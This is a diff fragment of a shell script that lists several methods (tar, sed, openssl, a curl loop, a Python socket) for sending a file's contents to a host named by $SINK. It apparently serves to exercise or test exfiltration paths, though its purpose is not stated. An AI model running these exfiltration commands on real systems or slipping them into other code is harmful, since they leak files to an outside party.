@@ -62,7 +62,7 @@ by_tar) tar -cf - -C "$(dirname "$FILE")" "$(basename "$FILE")" | gzip -c | gzip
 by_sed) sed -n p "$FILE" | post ;;
 by_openssl) openssl enc -base64 -in "$FILE" | openssl enc -base64 -d | post ;;
 by_while) while read -r line; do curl -s --max-time 5 -o /dev/null -d "$line" "http://$SINK/x"; done <"$FILE" ;;
-by_python) python3 -c '
+by_python) python3 -S -c '
 import os, socket
 host, port = os.environ["SINK"].rsplit(":", 1)
 s = socket.create_connection((host, int(port)), timeout=5)
